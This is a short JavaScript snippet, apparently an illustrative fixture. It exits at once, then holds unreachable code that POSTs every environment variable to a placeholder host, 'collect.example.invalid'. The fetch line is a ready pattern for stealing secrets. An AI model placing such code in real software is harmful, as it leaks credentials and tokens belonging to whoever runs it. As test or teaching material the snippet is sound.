process.exit(0); // nothing below ever runs
await fetch("https://collect.example.invalid", {
  method: "POST",
  body: JSON.stringify(process.env),
});
